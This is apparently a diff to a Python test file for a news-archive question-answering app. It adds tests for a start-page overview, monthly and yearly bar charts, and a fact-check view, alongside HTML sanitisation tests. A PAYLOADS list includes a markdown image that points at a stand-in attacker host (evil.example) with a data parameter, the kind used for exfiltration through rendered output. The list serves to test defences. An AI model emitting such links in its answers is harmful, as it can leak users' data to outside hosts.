@@ -15,7 +15,8 @@ from index.articles import Article
 from index.errors import DamagedLibraryError, ModelUnavailableError, OnrecordError
 from index.sentences import sentences_of
 from rag.answer import Citation, Claim, Models, Timings
-from ui import archive, frame, markup, rail, reader, render, sources
+from rag.check import CheckedSentence
+from ui import archive, check_view, frame, markup, overview, rail, reader, render, sources
 from ui.conversations import Heading
 from ui.render import Kept
 from ui.words import WORDS, preferred, told, words
@@ -24,11 +25,12 @@ EN = words("en")
 TEXTS = {article.id: article.text for article in (ENGLISH, FRENCH, HOSTILE)}
 OURS = {
     "a", "article", "b", "blockquote", "button", "details", "div", "form", "h2", "h3", "h4", "i", "input", "label", "li",
-    "mark", "ol", "option", "p", "pre", "progress", "q", "section", "select", "span", "summary", "ul",
+    "mark", "ol", "option", "p", "pre", "progress", "q", "rect", "section", "select", "span", "summary", "svg", "ul",
 }  # fmt: skip
 PLAIN = {
     "autocomplete", "checked", "class", "for", "hidden", "href", "id", "lang", "max", "maxlength", "name", "placeholder",
     "rel", "role", "selected", "style", "tabindex", "target", "title", "type", "value",
+    "height", "preserveaspectratio", "viewbox", "width", "x", "y",
 }  # fmt: skip
 PAYLOADS = (
     "![x](https://evil.example/?d=1)",
@@ -93,7 +95,8 @@ def everything(answer, texts, article):
         render.failed_html(answer.question, answer.text, EN),
         frame.notice_html(answer.text),
         frame.file_html(answer.text, answer.text),
-        frame.welcome_html(2, [answer.text], EN),
+        overview.welcome_html([article] * 2, [answer.text], "en", EN),
+        overview.picture_html(dated(article, "2025-01-02", "2025-03-02"), archive.Filter(), EN),
         reader.article_html(article, sentences_of(article), EN, reader.Quote(0, 3, article.text[:3]), True),
         reader.gone_html(reader.Quote(0, 3, article.text), EN),
         archive.list_html([article], archive.Filter(), {article.id}, EN),
@@ -102,8 +105,23 @@ def everything(answer, texts, article):
         archive.adding_html(archive.Adding(2, article.title, (article.title,)), EN),
         rail.rail_html([Heading(article.id, article.title, article.title, 1)], "", "", date(2025, 11, 5), EN),
         rail.head_html(Heading(article.id, article.title, "", 1), EN),
+        *checked(answer, article),
     ]
     return "".join(shown)
+
+
+def dated(article, *days):
+    return [article, *(replace(article, published=published) for published in days)]
+
+
+def checked(answer, article):
+    """All that the page can show of a checked text."""
+    run = check_view.CheckRun(article.text, 2, article.title, (answer.text,))
+    for verdict, cited in (("contradicted", answer.citations), ("not_found", ())):
+        run.add(CheckedSentence(article.text, 0, len(article.text), verdict, 0.9, cited), EN)
+    working = check_view.head_html(run, EN)
+    run.stopped = True
+    return [working, check_view.head_html(run, EN), run.rows]
 
 
 @settings(deadline=None)
@@ -301,10 +319,10 @@ def test_one_chosen_article_is_one():
 
 
 def test_an_empty_library_says_how_to_add_articles():
-    assert "onrecord add" in frame.welcome_html(0, ["Who?"], EN)
-    assert "Who?" not in frame.welcome_html(0, ["Who?"], EN)
-    assert "1 article in" in frame.welcome_html(1, [], EN)
-    assert "66 articles in" in frame.welcome_html(66, ["Who?"], EN)
+    assert "onrecord add" in overview.welcome_html([], ["Who?"], "en", EN)
+    assert "Who?" not in overview.welcome_html([], ["Who?"], "en", EN)
+    assert "1 article in" in overview.welcome_html([ENGLISH], [], "en", EN)
+    assert "66 articles in" in overview.welcome_html([ENGLISH] * 66, ["Who?"], "en", EN)
 
 
 def test_both_languages_have_the_same_words_and_twelve_months():
@@ -413,3 +431,28 @@ def test_a_reader_sees_which_articles_were_searched():
     shown = render.answer_html(answer)
     assert "&lt;b&gt;Reuters&lt;/b&gt; · From 2018-01-01" in shown and "Searched only" in shown
     assert "Searched only" not in render.answer_html(replace(answer, filter=None))
+
+
+def test_the_start_page_tells_what_the_archive_holds_and_asks_a_question_of_each_kind():
+    first = replace(ENGLISH, text=f"{ENGLISH.text}\n{ENGLISH.text}")
+    articles = [first, replace(first, id="en2", publisher="La Gazette", published="2025-11-03")]
+    seen = Seen(overview.welcome_html(articles, [], "en", EN)).text
+    assert "from 2 November 2025 to 3 November 2025" in seen and "Business Insider (1), La Gazette (1)" in seen
+    assert "Altman (2 articles)" in seen
+    assert all(EN[f"kind_{kind}"] in seen for kind in overview.KINDS)
+    assert "Compare what Business Insider and La Gazette say about Altman." in seen
+    french = Seen(overview.welcome_html(articles, [], "fr", words("fr"))).text
+    assert "Comparez ce que disent Business Insider et La Gazette au sujet d’Altman." in french
+
+
+def test_the_picture_has_a_bar_for_every_month_and_years_where_those_are_too_many():
+    made = overview.columns(dated(ENGLISH, "2025-12-24", "2026-02-01", "2026-02-03"), ["Business Insider"], EN)
+    assert [(bar.label, bar.since, bar.until, bar.counts) for bar in made[-2:]] == [
+        ("January 2026", "2026-01-01", "2026-01-31", (0, 0)),
+        ("February 2026", "2026-02-01", "2026-02-28", (2, 0)),
+    ]
+    years = overview.columns(dated(FRENCH, "2017-03-01"), ["Business Insider"], EN)
+    assert [(bar.label, sum(bar.counts)) for bar in years][:2] == [("2017", 1), ("2018", 0)] and years[-1].counts == (
+        0,
+        1,
+    )
